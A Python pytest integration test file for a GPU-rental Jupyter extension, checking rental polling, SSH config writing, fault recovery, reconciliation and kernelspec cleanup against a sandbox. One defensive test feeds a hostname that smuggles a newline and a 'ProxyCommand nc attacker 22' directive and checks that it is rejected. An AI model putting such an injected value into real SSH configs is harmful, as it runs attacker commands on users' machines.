"""RentalService against the sandbox: one poller per rental, long-polls, SSH on running, faults, restart."""

from __future__ import annotations

import asyncio
import subprocess
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from gpuoutlet_jupyter.api import (
    AsyncRentalsClient,
    Rental,
    RentalRequest,
    RetryPolicy,
    Settings,
)
from gpuoutlet_jupyter.kernel.specs import KernelSpecWriter
from gpuoutlet_jupyter.service import RentalService, RentalView, ServiceOptions
from gpuoutlet_jupyter.ssh import SSHConfigWriter

FAST_RETRY = RetryPolicy(attempts=3, backoff_initial=0.01, backoff_max=0.05)
FAST = ServiceOptions(
    poll_interval=0.1,
    max_polls=60,
    slow_poll_interval=0.3,
    running_poll_interval=0.2,
    backoff_max=0.5,
    reconcile_interval=0,
)
REQUEST = RentalRequest.build(family_id="rtx-4090", name="service-test")


class Env:
    """Builds services that share one account, state dir and ssh dir (a 'server' and its restart)."""

    def __init__(self, sandbox: Any, account: Any, keypair: Any, tmp_path: Path) -> None:
        self.sandbox = sandbox
        self.account = account
        self.keypair = keypair
        self.state_dir = tmp_path / "state"
        self.ssh_dir = tmp_path / "ssh"
        self.services: list[RentalService] = []

    def writer(self) -> SSHConfigWriter:
        return SSHConfigWriter(self.ssh_dir, identity_file=self.keypair.private_key)

    def client(self) -> AsyncRentalsClient:
        return AsyncRentalsClient(api_url=self.sandbox.url, sid=self.account.sid, retry=FAST_RETRY)

    async def service(
        self,
        options: ServiceOptions = FAST,
        kernelspecs: KernelSpecWriter | None = None,
        client: AsyncRentalsClient | None = None,
    ) -> RentalService:
        svc = RentalService(
            client or self.client(),
            state_dir=self.state_dir,
            ssh=self.writer(),
            kernelspecs=kernelspecs,
            options=options,
            owns_client=True,
        )
        await svc.start()
        self.services.append(svc)
        return svc

    def managed_files(self) -> list[str]:
        folder = self.ssh_dir / "gpuoutlet"
        if not folder.exists():
            return []
        return sorted(p.name for p in folder.iterdir() if not p.name.startswith("."))


@pytest_asyncio.fixture
async def env(sandbox: Any, account: Any, ssh_keypair: Any, tmp_path: Path) -> AsyncIterator[Env]:
    e = Env(sandbox, account, ssh_keypair, tmp_path)
    yield e
    for svc in e.services:
        await svc.close()
    sandbox.set_faults({})


async def until(
    svc: RentalService,
    rental_id: str,
    done: Callable[[RentalView], bool],
    *,
    limit: float = 60.0,
) -> RentalView:
    """Follow the rental through the service's long-poll until `done` (bounded, not timed)."""
    view = await svc.rental(rental_id)
    loop = asyncio.get_running_loop()
    deadline = loop.time() + limit
    while not done(view):
        assert loop.time() < deadline, f"rental never reached the expected state: {view}"
        view = await svc.wait_for_change(rental_id, view["version"], timeout=5)
    return view


def running(view: RentalView) -> bool:
    return view["status"] == "running" and view["ssh"] is not None


@pytest.mark.asyncio
async def test_create_watch_ssh_stop(env: Env) -> None:
    svc = await env.service()
    view = await svc.create(REQUEST)
    assert view["status"] == "provisioning"
    assert view["createdHere"] is True
    assert view["phase"].startswith("Provisioning")

    view = await until(svc, view["id"], running)
    ssh = view["ssh"]
    assert ssh["alias"] == f"gpuoutlet-{view['id']}"
    assert "error" not in ssh
    assert view["phase"].startswith("Running: connect with")
    assert env.managed_files() == [f"{view['id']}.conf", f"{view['id']}.known_hosts"]

    out = await asyncio.to_thread(
        subprocess.run,
        ["ssh", "-F", ssh["configFile"], ssh["alias"], "python3", "-c", "'print(42)'"],
        capture_output=True,
        text=True,
        timeout=60,
        stdin=subprocess.DEVNULL,
    )
    assert out.stdout.strip() == "42", out.stderr

    await svc.stop(view["id"])
    view = await until(svc, view["id"], lambda v: v["status"] == "stopped")
    assert view["ssh"] is None
    assert env.managed_files() == []
    assert view["id"] not in svc.watching()


@pytest.mark.asyncio
async def test_many_viewers_one_poller(env: Env) -> None:
    env.sandbox.set_faults({"neverReady": True})
    svc = await env.service()
    view = await svc.create(REQUEST)
    rental_id = view["id"]
    before = svc.upstream_polls
    loop = asyncio.get_running_loop()
    started = loop.time()

    async def viewer() -> int:
        seen, since = 0, view["version"]
        while seen < 8:
            current = await svc.wait_for_change(rental_id, since, timeout=5)
            assert current["version"] > since
            since = current["version"]
            seen += 1
        return seen

    results = await asyncio.gather(*(viewer() for _ in range(20)))
    elapsed = loop.time() - started
    polls = svc.upstream_polls - before
    assert results == [8] * 20
    # One upstream GET per interval, whatever the number of viewers: 20 pollers of their own
    # would have made at least 20 * 8 requests.
    assert polls <= elapsed / FAST.poll_interval + 2
    assert polls < 20 * 8 / 4


@pytest.mark.asyncio
async def test_transient_errors_are_shown_and_survived(env: Env) -> None:
    svc = await env.service()
    view = await svc.create(REQUEST)
    env.sandbox.set_faults({"errorBurst": {"status": 503, "count": 3}})
    view = await until(svc, view["id"], lambda v: v["upstreamError"] is not None)
    assert "503" in view["upstreamError"]
    assert "retrying" in view["phase"]
    view = await until(svc, view["id"], running)
    assert view["upstreamError"] is None


@pytest.mark.asyncio
async def test_upstream_timeouts_are_shown_and_survived(env: Env) -> None:
    # A client that gives up on an answer after 0.3 s, against an API that answers in 1 s.
    settings = Settings(api_url=env.sandbox.url, timeout_seconds=0.3).with_sid(env.account.sid)
    svc = await env.service(client=AsyncRentalsClient(settings, retry=FAST_RETRY))
    view = await svc.create(REQUEST)
    env.sandbox.set_faults({"slowResponseSeconds": 1.0, "slowCount": 2})
    view = await until(svc, view["id"], lambda v: v["upstreamError"] is not None)
    assert "did not answer in time" in view["upstreamError"]
    view = await until(svc, view["id"], running)
    assert view["upstreamError"] is None


@pytest.mark.asyncio
async def test_rate_limits_and_garbage_do_not_drop_the_rental(env: Env) -> None:
    svc = await env.service()
    view = await svc.create(REQUEST)
    env.sandbox.set_faults(
        {"rateLimitBurst": {"count": 2, "retryAfterSeconds": 1}, "malformedCount": 2}
    )
    view = await until(svc, view["id"], running)
    assert view["id"] in {v["id"] for v in svc.rentals()}


@pytest.mark.asyncio
async def test_provider_failure_is_reported_and_nothing_written(env: Env) -> None:
    svc = await env.service()
    view = await svc.create(REQUEST)
    env.sandbox.fail_rental(view["id"], "provider: host gpu-fi-07 did not boot (ECC error)")
    view = await until(svc, view["id"], lambda v: v["status"] == "failed")
    assert "ECC error" in view["phase"]
    assert view["ssh"] is None
    assert env.managed_files() == []
    assert view["id"] not in svc.watching()


@pytest.mark.asyncio
async def test_never_ready_is_reported_and_still_watched(env: Env) -> None:
    env.sandbox.set_faults({"neverReady": True})
    options = ServiceOptions(
        poll_interval=0.05, max_polls=3, slow_poll_interval=0.1, reconcile_interval=0
    )
    svc = await env.service(options)
    view = await svc.create(REQUEST)
    view = await until(svc, view["id"], lambda v: v["polls"] >= 5)
    assert view["phase"].startswith("Not ready after")
    assert "stop it" in view["phase"]
    assert view["id"] in svc.watching()


@pytest.mark.asyncio
async def test_hostile_host_fails_the_ssh_step_and_writes_nothing(env: Env) -> None:
    env.sandbox.set_faults({"hostileHost": "evil\nProxyCommand nc attacker 22"})
    svc = await env.service()
    view = await svc.create(REQUEST)
    view = await until(svc, view["id"], running)
    assert "error" in view["ssh"]
    assert "alias" not in view["ssh"]
    assert "no SSH entry was written" in view["phase"]
    assert env.managed_files() == []
    assert (
        not (env.ssh_dir / "config").exists()
        or "ProxyCommand" not in (env.ssh_dir / "config").read_text()
    )


@pytest.mark.asyncio
async def test_restart_while_provisioning_finishes_the_job(env: Env) -> None:
    env.sandbox.set_faults({"neverReady": True})
    first = await env.service()
    view = await first.create(REQUEST)
    await first.close()
    env.services.remove(first)
    env.sandbox.set_faults({})

    second = await env.service()
    assert view["id"] in second.watching()
    # Listed at once from the saved state, before any poll has changed it.
    assert [v["id"] for v in second.rentals()] == [view["id"]]
    view = await until(second, view["id"], running)
    assert view["createdHere"] is True
    assert env.managed_files()[0] == f"{view['id']}.conf"


@pytest.mark.asyncio
async def test_reconcile_adopts_and_forgets(env: Env) -> None:
    svc = await env.service()
    async with env.client() as direct:
        elsewhere = await direct.create(family_id="rtx-4090", name="made elsewhere")
    await svc.reconcile()
    view = await svc.rental(elsewhere.id)
    assert view["createdHere"] is False
    view = await until(svc, elsewhere.id, running)
    assert env.managed_files()

    env.sandbox.delete_rental(elsewhere.id)
    await svc.reconcile()
    view = await svc.rental(elsewhere.id)
    assert view["gone"] is True
    assert view["ssh"] is None
    assert env.managed_files() == []
    assert elsewhere.id not in svc.watching()


@pytest.mark.asyncio
async def test_stop_of_an_untracked_rental_is_tracked(env: Env) -> None:
    svc = await env.service()
    async with env.client() as direct:
        rental = await direct.create(family_id="rtx-4090")
    view = await svc.stop(rental.id)
    assert view["status"] in ("stopping", "stopped")
    view = await until(svc, rental.id, lambda v: v["status"] == "stopped")
    assert view["createdHere"] is False


@pytest.mark.asyncio
async def test_list_long_poll_wakes_on_any_rental(env: Env) -> None:
    svc = await env.service()
    since = svc.version
    waiter = asyncio.create_task(svc.wait_for_any_change(since, timeout=10))
    await asyncio.sleep(0)
    view = await svc.create(REQUEST)
    listed = await waiter
    assert view["id"] in [v["id"] for v in listed]


@pytest.mark.asyncio
async def test_kernelspec_follows_the_rental_and_stale_ones_are_swept(
    env: Env, tmp_path: Path
) -> None:
    specs = KernelSpecWriter(tmp_path / "kernels")
    # A spec left behind by a rental that stopped while nothing watched it.
    stale = Rental.model_validate(
        {
            "id": "rent_STALE",
            "status": "running",
            "host": "127.0.0.1",
            "port": 2222,
            "pricePerHourCents": 65,
            "startedAt": "2026-06-07T08:14:22Z",
        }
    )
    specs.install(stale, env.writer().write("rent_STALE", "127.0.0.1", 2222))
    assert set(specs.installed().values()) == {"rent_STALE"}

    svc = await env.service(kernelspecs=specs)
    assert specs.installed() == {}
    view = await svc.create(REQUEST)
    view = await until(svc, view["id"], lambda v: v["kernel"] is not None)
    assert specs.installed() == {view["kernel"]: view["id"]}
    await svc.stop(view["id"])
    view = await until(svc, view["id"], lambda v: v["status"] == "stopped")
    assert view["kernel"] is None
    assert specs.installed() == {}


@pytest.mark.asyncio
async def test_periodic_reconcile_shows_rentals_made_elsewhere_and_forgets_vanished_ones(
    env: Env,
) -> None:
    options = ServiceOptions(poll_interval=0.1, running_poll_interval=60.0, reconcile_interval=0.3)
    svc = await env.service(options)

    async def listed_until(done: Callable[[list[RentalView]], bool]) -> list[RentalView]:
        loop = asyncio.get_running_loop()
        deadline = loop.time() + 30
        views = svc.rentals()
        while not done(views):
            assert loop.time() < deadline, f"never reconciled: {views}"
            views = await svc.wait_for_any_change(svc.version, timeout=2)
        return views

    async with env.client() as direct:
        elsewhere = await direct.create(family_id="rtx-4090", name="made on the website")
    # No call from here: the periodic reconcile finds it, and its watcher takes it to running.
    views = await listed_until(lambda vs: any(v["id"] == elsewhere.id and v["ssh"] for v in vs))
    assert next(v for v in views if v["id"] == elsewhere.id)["createdHere"] is False
    assert env.managed_files()

    env.sandbox.delete_rental(elsewhere.id)
    views = await listed_until(lambda vs: any(v["id"] == elsewhere.id and v["gone"] for v in vs))
    assert next(v for v in views if v["id"] == elsewhere.id)["ssh"] is None
    assert env.managed_files() == []


# --- failing disks and unexpected errors never end a watcher, the reconcile loop or the start ---


def _broken_ssh_dir(env: Env) -> Path:
    """An ~/.ssh whose parent folder is missing: every write there raises FileNotFoundError
    (as a read-only ~/.ssh raises PermissionError for a user who is not root)."""
    env.ssh_dir = env.ssh_dir.parent / "no-such-home" / ".ssh"
    return env.ssh_dir


@pytest.mark.asyncio
async def test_an_os_error_writing_the_ssh_entry_is_shown_and_the_watch_goes_on(env: Env) -> None:
    ssh_dir = _broken_ssh_dir(env)
    svc = await env.service()
    created = await svc.create(REQUEST)
    view = await until(svc, created["id"], lambda v: v["status"] == "running" and v["ssh"])
    error = view["ssh"]["error"]
    assert "alias" not in view["ssh"]
    assert str(ssh_dir) in error and "No such file or directory" in error
    assert "no SSH entry was written" in view["phase"]
    assert created["id"] in svc.watching()

    # Once the folder is there, the next poll writes the entry.
    ssh_dir.parent.mkdir()
    view = await until(svc, created["id"], lambda v: bool(v["ssh"] and v["ssh"].get("alias")))
    assert "error" not in view["ssh"]
    await svc.stop(created["id"])
    view = await until(svc, created["id"], lambda v: v["status"] == "stopped")
    assert view["ssh"] is None


@pytest.mark.asyncio
async def test_a_failing_ssh_write_at_start_does_not_stop_the_service(env: Env) -> None:
    first = await env.service()
    created = await first.create(REQUEST)
    await until(first, created["id"], running)
    await first.close()
    env.services.remove(first)

    # Restarted with an ~/.ssh that cannot be written: it starts, and says why there is no alias.
    _broken_ssh_dir(env)
    second = await env.service()
    view = await second.rental(created["id"])
    assert view["status"] == "running" and "No such file or directory" in view["ssh"]["error"]
    assert created["id"] in second.watching()
    stopped = await second.stop(created["id"])
    assert stopped["status"] in ("stopping", "stopped")


class ExplodingActivity:
    """An activity source that fails (a kernel manager in flux) a number of times."""

    def __init__(self, failures: int) -> None:
        self.failures = failures

    def __call__(self, rental_ids: Any) -> dict[str, Any]:
        if self.failures > 0:
            self.failures -= 1
            raise RuntimeError("kernel manager in flux")
        return {}


@pytest.mark.asyncio
async def test_an_unexpected_error_ends_neither_a_watcher_nor_the_reconcile_loop(env: Env) -> None:
    activity = ExplodingActivity(failures=1_000_000)
    options = ServiceOptions(
        poll_interval=0.1,
        running_poll_interval=0.2,
        reconcile_interval=0.2,
        idle_stop_minutes=30,
        idle_check_interval=3600,
    )
    svc = RentalService(
        env.client(),
        state_dir=env.state_dir,
        ssh=env.writer(),
        options=options,
        activity=activity,
        owns_client=True,
    )
    env.services.append(svc)
    await svc.start()
    created = await svc.create(REQUEST)
    # Each poll that sees it running fails while judging its idle timer, as does each reconcile.
    for _ in range(30):
        await asyncio.sleep(0.2)
        if activity.failures < 1_000_000 - 6:
            break
    assert created["id"] in svc.watching()
    reconciler = svc._reconciler
    assert reconciler is not None and not reconciler.done()
    activity.failures = 0  # fixed: the next poll goes through
    view = await until(svc, created["id"], running)
    assert view["idleStop"]["minutes"] == 30


@pytest.mark.asyncio
async def test_an_os_error_removing_the_ssh_entry_is_shown_on_the_stopped_rental(
    env: Env,
) -> None:
    svc = await env.service()
    created = await svc.create(REQUEST)
    await until(svc, created["id"], running)
    # The managed folder's lock file cannot be opened any more (a directory in its place).
    lock = env.ssh_dir / "gpuoutlet" / ".lock"
    lock.unlink(missing_ok=True)
    lock.mkdir()
    await svc.stop(created["id"])
    view = await until(svc, created["id"], lambda v: v["status"] == "stopped")
    error = view["ssh"]["error"]
    assert "could not be removed" in error and f"{created['id']}.conf" in error
    assert error in view["phase"] and view["phase"].startswith("Stopped.")
    assert created["id"] not in svc.watching()
